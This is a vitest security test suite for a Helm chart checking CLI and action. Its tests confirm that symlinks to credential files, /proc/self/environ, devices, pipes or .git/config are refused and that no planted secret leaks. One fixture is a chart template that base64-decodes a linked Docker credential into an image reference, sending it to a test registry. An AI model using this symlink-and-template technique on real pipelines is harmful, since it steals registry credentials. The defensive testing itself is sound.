import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, test, vi } from 'vitest';
import { runActionEntry } from '../support/run-action.ts';
import { runNode } from '../support/run-node.ts';
import { smallChart } from '../support/small-chart.ts';
import { makeDirectory } from '../support/temp-directory.ts';
import { refuse, serve } from '../unit/registry/support.ts';

vi.setConfig({ testTimeout: 120_000 });

const SECRET = 'S3cr3tOfThisMachine';
const OUTSIDE = 'is a symbolic link that leads outside the project, so it is not followed';
const IN_GIT = 'is a symbolic link that leads into a .git directory, so it is not followed';
const HINT =
  'hint: a link in the project is followed only to a file of the project; name the file itself if it is meant\n';
const CHART_YAML = 'apiVersion: v2\nname: api\nversion: 1.0.0\n';

/** A repository with a sound chart, and what lies beside it on the machine. */
function machine(files: Readonly<Record<string, string>> = {}) {
  const home = makeDirectory({
    'home/secret.yaml': `password: ${SECRET}\n`,
    'home/.netrc': `machine ghcr.io login someone password ${SECRET}\n`,
    'home/.docker/config.json': JSON.stringify({
      auths: { 'ghcr.io': { auth: Buffer.from(`someone:${SECRET}`).toString('base64') } },
    }),
    'home/chart/Chart.yaml': CHART_YAML,
    'home/chart/templates/secret.yaml': `# ${SECRET}\nkind: Secret\n`,
    'repo/.git/config': `token = ${SECRET}\n`,
  });
  const repo = path.join(home, 'repo');
  execFileSync('mkfifo', [path.join(home, 'home/pipe')]);
  for (const [file, text] of Object.entries({ ...smallChart('ghcr.io/acme/api:1'), ...files })) write(repo, file, text);
  return { home: path.join(home, 'home'), repo };
}

function write(directory: string, file: string, text: string): void {
  mkdirSync(path.dirname(path.join(directory, file)), { recursive: true });
  writeFileSync(path.join(directory, file), text);
}

function link(directory: string, file: string, target: string): void {
  mkdirSync(path.dirname(path.join(directory, file)), { recursive: true });
  rmSync(path.join(directory, file), { recursive: true, force: true });
  symlinkSync(target, path.join(directory, file));
}

const run = (cwd: string, ...args: string[]) =>
  runNode('src/cli/index.ts', args, { cwd, env: { HOME: path.join(cwd, '../home') }, killAfterMs: 60_000 });

describe('a chart that links a values file to a credential and sends it away', () => {
  async function attack() {
    const asked: string[] = [];
    const registry = await serve((request, response) => {
      asked.push(request.url ?? '');
      refuse(response, 404, 'NAME_UNKNOWN', 'unknown');
    });
    const host = `localhost:${new URL(registry.url).port}`;
    const { home, repo } = machine({
      'deploy/api/.helmignore': 'values-prod.yaml\n',
      'deploy/api/templates/leak.yaml': `{{- with .Values.auths }}
apiVersion: v1
kind: Pod
metadata: {name: leak}
spec:
  containers:
    - name: c
      image: "${host}/x/{{ (index . "ghcr.io").auth | b64dec | lower | replace ":" "-" }}:1"
{{- end }}
`,
    });
    write(repo, 'deploy/api/values.yaml', `image: ${host}/sound:1\n`);
    link(repo, 'deploy/api/values-prod.yaml', path.join(home, '.docker/config.json'));
    return { home, repo, asked, host };
  }

  const shows = (text: string) => [SECRET, SECRET.toLowerCase()].some((form) => text.includes(form));

  test('reads nothing when the chart is discovered, and a note names the link', async () => {
    const { repo, asked } = await attack();
    const result = await run(repo, 'check', '--format', 'json');

    expect(shows(`${result.stdout}${result.stderr}${asked.join()}`)).toBe(false);
    expect(asked.some((url) => url.includes('/sound/'))).toBe(true);
    const { findings } = JSON.parse(result.stdout);
    expect(findings.find(({ rule }: { rule: string }) => rule === 'render-failed')).toMatchObject({
      severity: 'note',
      target: 'api/prod',
      message: `chart "deploy/api" is not checked: the values file "deploy/api/values-prod.yaml" ${OUTSIDE}`,
      location: { file: 'deploy/api/values-prod.yaml', line: 1 },
    });
  });

  test('reads nothing in the action, and asks no internal host, without inputs', async () => {
    const { home, repo, asked } = await attack();
    const result = await runActionEntry('src/action/index.ts', repo, {}, { HOME: home });

    expect(shows(`${result.stdout}${result.stderr}${result.summary}`)).toBe(false);
    expect(asked).toEqual([]);
    expect(result.stdout).toContain(`the values file "deploy/api/values-prod.yaml" ${OUTSIDE}`);
  });

  test('reads nothing in the action that names the host', async () => {
    const { home, repo, asked, host } = await attack();
    const inputs = { registries: `- host: "${host}"` };
    const result = await runActionEntry('src/action/index.ts', repo, inputs, { HOME: home });

    expect(shows(`${result.stdout}${result.stderr}${result.summary}${asked.join()}`)).toBe(false);
    expect(asked.some((url) => url.includes('/sound/'))).toBe(true);
    expect(result.stdout).toContain(`the values file "deploy/api/values-prod.yaml" ${OUTSIDE}`);
  });

  test('is a usage error when the file is named', async () => {
    const { repo, asked } = await attack();
    const result = await run(repo, 'check', 'deploy/api', '-f', 'deploy/api/values-prod.yaml');

    expect(result).toEqual({
      code: 2,
      stdout: '',
      stderr: `error: the values file "deploy/api/values-prod.yaml" ${OUTSIDE}\n${HINT}`,
    });
    expect(asked).toEqual([]);
  });

  test('is a usage error when every chart that is found needs such a link', async () => {
    const { home, repo } = machine();
    link(repo, 'deploy/api/templates/x.yaml', path.join(home, 'secret.yaml'));
    const result = await run(repo, 'check', '--offline');

    expect(result).toMatchObject({ code: 2, stdout: '' });
    expect(result.stderr).toBe(
      `error: nothing could be checked: the file "deploy/api/templates/x.yaml" of the chart ${OUTSIDE}\nhint: a link in the project is followed only to a file of the project\n`,
    );
  });
});

/** Every path that is read, with the command that reads it and what the refusal calls it. */
const PLACES: readonly {
  readonly place: string;
  readonly args: readonly string[];
  readonly subject: string;
  readonly files?: Readonly<Record<string, string>>;
}[] = [
  {
    place: 'values.yaml',
    args: ['check', 'deploy/api', '-f', 'values.yaml'],
    subject: 'the values file "values.yaml"',
  },
  { place: 'v.yaml', args: ['render', 'deploy/api', '-f', 'v.yaml'], subject: 'the values file "v.yaml"' },
  { place: 'v.yaml', args: ['images', 'deploy/api', '-f', 'v.yaml'], subject: 'the values file "v.yaml"' },
  {
    place: 'x.txt',
    args: ['check', 'deploy/api', '--set-file', 'a=x.txt'],
    subject: 'the --set-file file "x.txt"',
  },
  { place: 'm.yaml', args: ['check', '--manifests', 'm.yaml'], subject: 'the manifests file "m.yaml"' },
  {
    place: 'ca.pem',
    args: ['check', 'deploy/api'],
    subject: 'the certificate authority "ca.pem" of pullproof.yaml',
    files: { 'pullproof.yaml': 'version: 1\nregistries: [{host: ghcr.io, ca: ca.pem}]\n' },
  },
  { place: 'pullproof.yaml', args: ['check'], subject: 'pullproof.yaml' },
  { place: '.github/pullproof.yaml', args: ['check'], subject: '.github/pullproof.yaml' },
  { place: 'my.yaml', args: ['check', '--config', 'my.yaml'], subject: 'my.yaml' },
  {
    place: 'deploy/api/.helmignore',
    args: ['check', 'deploy/api'],
    subject: 'the file "deploy/api/.helmignore" of the chart',
  },
  {
    place: 'deploy/api/Chart.yaml',
    args: ['check', 'deploy/api'],
    subject: 'the file "deploy/api/Chart.yaml" of the chart',
  },
  {
    place: 'deploy/api/values.yaml',
    args: ['render', 'deploy/api'],
    subject: 'the file "deploy/api/values.yaml" of the chart',
  },
  {
    place: 'deploy/api/templates/x.yaml',
    args: ['check', 'deploy/api'],
    subject: 'the file "deploy/api/templates/x.yaml" of the chart',
  },
  {
    place: 'deploy/api/charts/x.tgz',
    args: ['check', 'deploy/api'],
    subject: 'the file "deploy/api/charts/x.tgz" of the chart',
  },
  { place: 'api.tgz', args: ['check', 'api.tgz'], subject: 'the chart "api.tgz"' },
  { place: 'events.txt', args: ['diagnose', 'events.txt'], subject: '"events.txt"' },
];

const TARGETS: readonly (readonly [name: string, to: (home: string) => string, says: string])[] = [
  ['a file outside', (home) => path.join(home, 'secret.yaml'), OUTSIDE],
  ['/dev/zero', () => '/dev/zero', OUTSIDE],
  ['a pipe', (home) => path.join(home, 'pipe'), OUTSIDE],
  ['/proc/self/environ', () => '/proc/self/environ', OUTSIDE],
  ['.git/config', () => '.git/config', IN_GIT],
];

describe.each(PLACES)('a link at $place ($args.0)', ({ place, args, subject, files }) => {
  test.each(TARGETS)('to %s is refused by name', async (_, to, says) => {
    const { home, repo } = machine(files);
    const target = to(home);
    link(repo, place, path.isAbsolute(target) ? target : path.join(repo, target));
    const result = await run(repo, ...args);

    expect(result).toEqual({ code: 2, stdout: '', stderr: `error: ${subject} ${says}\n${HINT}` });
  });
});

describe('directories', () => {
  test.each([
    ['check', 'linked'],
    ['render', 'linked'],
  ])('%s: a chart behind a link that leads out is refused', async (command, chart) => {
    const { home, repo } = machine();
    link(repo, 'linked', path.join(home, 'chart'));
    const result = await run(repo, command, chart);

    expect(result).toEqual({ code: 2, stdout: '', stderr: `error: the chart "linked" ${OUTSIDE}\n${HINT}` });
  });

  test('a file behind a directory that is a link is refused, with the link', async () => {
    const { home, repo } = machine();
    link(repo, 'conf/env', home);
    const result = await run(repo, 'check', 'deploy/api', '-f', 'conf/env/secret.yaml');

    expect(result.code).toBe(2);
    expect(result.stderr).toBe(
      `error: the values file "conf/env/secret.yaml" is reached by the symbolic link "conf/env", which leads outside the project, so it is not followed\n${HINT}`,
    );
  });

  test('the home directory is no project: a clone below it does not reach its other files', async () => {
    const { home } = machine();
    for (const [file, text] of Object.entries(smallChart('ghcr.io/acme/api:1'))) write(home, `clone/${file}`, text);
    link(home, 'clone/deploy/api/values-prod.yaml', '../../../.docker/config.json');
    link(home, 'clone/deploy/api/templates/again.yaml', 'deployment.yaml');
    const inHome = (...args: string[]) =>
      runNode('src/cli/index.ts', args, { cwd: home, env: { HOME: home }, killAfterMs: 60_000 });
    const chart = 'clone/deploy/api';
    const values = `${chart}/values-prod.yaml`;

    expect(await inHome('check', chart, '-f', values)).toEqual({
      code: 2,
      stdout: '',
      stderr: `error: the values file "${values}" ${OUTSIDE}\n${HINT}`,
    });
    expect((await inHome('images', chart)).stderr).toContain(`the file "${values}" of the chart ${OUTSIDE}`);
    rmSync(path.join(home, values));
    expect((await inHome('images', chart)).stdout).toContain('ghcr.io/acme/api:1');
  });

  test('names of values files behind a link are not found', async () => {
    const { home, repo } = machine();
    write(home, 'envs/private-name.yaml', 'a: 1\n');
    link(repo, 'deploy/api/envs', path.join(home, 'envs'));
    link(repo, 'deploy/api/.helmignore', 'ignore');
    write(repo, 'deploy/api/ignore', 'envs/\n');
    const result = await run(repo, 'check', '--offline', '--format', 'json');

    expect(`${result.stdout}${result.stderr}`).not.toContain('private-name');
  });

  test('links that multiply are given up', async () => {
    const { repo } = machine();
    for (let level = 0; level < 9; level += 1) {
      mkdirSync(path.join(repo, `deploy/api/files/d${level}`), { recursive: true });
      for (const name of 'abcdefghij') link(repo, `deploy/api/files/d${level}/${name}`, `../d${level + 1}`);
    }
    write(repo, 'deploy/api/files/d9/x', '');
    const result = await run(repo, 'check', 'deploy/api', '--offline', '--format', 'json');

    expect(result.code).toBe(1);
    expect(result.stdout).toContain('the chart directory has more than 100000 entries, counted through its links');
  });
});

describe('init', () => {
  test.each([
    ['a workflow', '.github/workflows/deploy.yml'],
    ['a script', 'scripts/deploy.sh'],
    ['a pipeline', '.gitlab-ci.yml'],
  ])('%s that is a link out is not read', async (_, place) => {
    const { home, repo } = machine();
    write(home, 'commands', `deploy:\n  script: helm upgrade ${SECRET} deploy/api\n`);
    link(repo, place, path.join(home, 'commands'));
    const result = await run(repo, 'init', '--dry-run');

    expect(result.code).toBe(0);
    expect(`${result.stdout}${result.stderr}`).not.toContain(SECRET);
  });

  test('a values file that is a link out is not proposed, and named', async () => {
    const { home, repo } = machine();
    link(repo, 'deploy/api/values-prod.yaml', path.join(home, 'secret.yaml'));
    const result = await run(repo, 'init', '--dry-run');

    expect(result.stdout).not.toContain('values-prod');
    expect(result.stderr).toBe(
      `warning: deploy/api/values-prod.yaml: this values file was not taken over: it ${OUTSIDE}\n`,
    );
  });

  test('a pipe and a device at the places that it reads do not stop it', async () => {
    const { repo } = machine();
    for (const place of ['scripts/deploy.sh', '.github/workflows/a.yml', 'other/Chart.yaml']) {
      mkdirSync(path.dirname(path.join(repo, place)), { recursive: true });
      execFileSync('mkfifo', [path.join(repo, place)]);
    }
    link(repo, 'zero/Chart.yaml', '/dev/zero');
    link(repo, '.github/workflows/b.yml', '/dev/zero');
    const result = await run(repo, 'init', '--dry-run');

    expect(result.code).toBe(0);
    expect(result.stdout).toContain('chart: deploy/api');
  });

  test('a command of the repository that names files outside is not taken over', async () => {
    const { home, repo } = machine({
      'scripts/deploy.sh': 'helm upgrade api deploy/api -f ../home/secret.yaml\n',
    });
    const result = await run(repo, 'init', '--dry-run');

    expect(home).toContain('/home');
    expect(result.stderr).toBe(
      'warning: scripts/deploy.sh:1: this helm command was not taken over: "../home/secret.yaml" does not lie in the project\n',
    );
    expect(result.stdout).not.toContain('secret.yaml');
  });
});

describe('what is no regular file', () => {
  test.each([
    ['check', ['check', 'deploy/api', '-f', 'x'], 'error: the values file "x" is no regular file\n'],
    ['set-file', ['check', 'deploy/api', '--set-file', 'a=x'], 'error: the --set-file file "x" is no regular file\n'],
    ['manifests', ['check', '--manifests', 'x'], 'error: the manifests file "x" is no regular file\n'],
    ['config', ['check', '--config', 'x'], 'error: x is no regular file\n'],
    ['diagnose', ['diagnose', 'x'], 'error: cannot read "x": it is no regular file\n'],
    [
      'a device that is named',
      ['check', 'deploy/api', '-f', '/dev/zero'],
      'error: the values file "/dev/zero" is no regular file\n',
    ],
  ])('%s: a pipe or a device is not opened', async (_, args, message) => {
    const { repo } = machine();
    execFileSync('mkfifo', [path.join(repo, 'x')]);
    const result = await run(repo, ...args);

    expect(result.code).toBe(2);
    expect(result.stderr).toContain(message);
  });
});

describe('a report', () => {
  test.each(['text', 'json', 'markdown', 'sarif', 'github'])(
    '%s quotes no line of a file behind a link',
    async (format) => {
      const { home, repo } = machine({ 'other/Chart.yaml': CHART_YAML, 'other/templates/x.yaml': 'kind: None\n' });
      link(repo, 'deploy/api/templates/x.yaml', path.join(home, '.netrc'));
      link(repo, '.github/workflows/deploy.yml', path.join(home, 'secret.yaml'));
      const result = await run(repo, 'check', '--offline', '--format', format);

      expect(result.stdout).toContain('templates/x.yaml');
      expect(`${result.stdout}${result.stderr}`).not.toMatch(/machine ghcr\.io|login someone/);
    },
  );

  test('does not quote a configuration that is none', async () => {
    const { repo } = machine({ 'pullproof.yaml': `root:x:0:0:${SECRET}:/root:/bin/bash\n` });
    const result = await run(repo, 'check');

    expect(result.code).toBe(2);
    expect(result.stderr).toContain('error: pullproof.yaml:1:1: the file: expected a map of keys, found text\n');
    expect(result.stderr).not.toContain(SECRET);
  });
});

describe('what is meant', () => {
  const REFERENCES = /"reference": "([^"]+)"/g;
  const images = async (cwd: string, ...args: string[]) => {
    const result = await run(cwd, 'images', ...args, '--format', 'json');
    expect({ code: result.code, stderr: result.stderr }).toEqual({ code: 0, stderr: '' });
    return [...result.stdout.matchAll(REFERENCES)].map(([, reference]) => reference);
  };

  test('a shared chart, template and values file of a monorepo are followed, from a directory below the root', async () => {
    const { repo } = machine({
      'shared/sidecar/Chart.yaml': 'apiVersion: v2\nname: sidecar\nversion: 1.0.0\n',
      'shared/sidecar/templates/pod.yaml':
        'apiVersion: v1\nkind: Pod\nmetadata: {name: s}\nspec: {containers: [{name: s, image: ghcr.io/acme/sidecar:1}]}\n',
      'shared/values.yaml': 'image: ghcr.io/acme/shared:2\n',
    });
    link(repo, 'deploy/api/charts/sidecar', '../../../shared/sidecar');
    link(repo, 'deploy/api/values-prod.yaml', path.join(repo, 'shared/values.yaml'));
    link(repo, 'deploy/again', 'api');

    const cwd = path.join(repo, 'deploy');
    expect(await images(cwd, 'again', '-f', 'api/values-prod.yaml')).toEqual([
      'ghcr.io/acme/shared:2',
      'ghcr.io/acme/sidecar:1',
    ]);
  });

  test('a file outside that is named is read, also through a link outside', async () => {
    const { home, repo } = machine();
    write(home, 'values.yaml', 'image: ghcr.io/acme/outside:3\n');
    link(home, 'current.yaml', 'values.yaml');

    const outside = ['ghcr.io/acme/outside:3'];
    expect(await images(repo, 'deploy/api', '-f', '../home/values.yaml')).toEqual(outside);
    expect(await images(repo, 'deploy/api', '-f', path.join(home, 'current.yaml'))).toEqual(outside);
  });

  test('a chart outside that is named is read, with the links inside it', async () => {
    const { home, repo } = machine();
    for (const [file, text] of Object.entries(smallChart('ghcr.io/acme/far:1'))) write(home, file, text);
    link(home, 'deploy/api/templates/again.yaml', 'deployment.yaml');

    expect(await images(repo, '../home/deploy/api')).toEqual(['ghcr.io/acme/far:1']);
  });

  test('a working directory behind a link is the same project', async () => {
    const { home, repo } = machine({ 'shared.yaml': 'image: ghcr.io/acme/shared:2\n' });
    link(home, 'work', repo);
    link(repo, 'deploy/api/values-prod.yaml', '../../shared.yaml');

    const values = path.join(home, 'work/deploy/api/values-prod.yaml');
    expect(await images(path.join(home, 'work'), 'deploy/api', '-f', values)).toEqual(['ghcr.io/acme/shared:2']);
  });

  test('outside a repository the working directory is the project', async () => {
    const { home, repo } = machine({ 'shared.yaml': 'image: ghcr.io/acme/shared:2\n' });
    rmSync(path.join(repo, '.git'), { recursive: true });
    link(repo, 'v.yaml', 'shared.yaml');
    link(repo, 'w.yaml', path.join(home, 'secret.yaml'));

    expect(await images(repo, 'deploy/api', '-f', 'v.yaml')).toEqual(['ghcr.io/acme/shared:2']);
    expect((await run(repo, 'images', 'deploy/api', '-f', 'w.yaml')).code).toBe(2);
  });

  test('what a shell gives for <(command) is read', async () => {
    const { repo } = machine();
    const node = `${process.execPath} --no-warnings ${path.resolve('src/cli/index.ts')}`;
    const command = `${node} images deploy/api -f <(echo image: ghcr.io/acme/piped:4)`;
    const shown = execFileSync('bash', ['-c', command], { cwd: repo, encoding: 'utf8' });

    expect(shown).toContain('ghcr.io/acme/piped:4');
  });
});
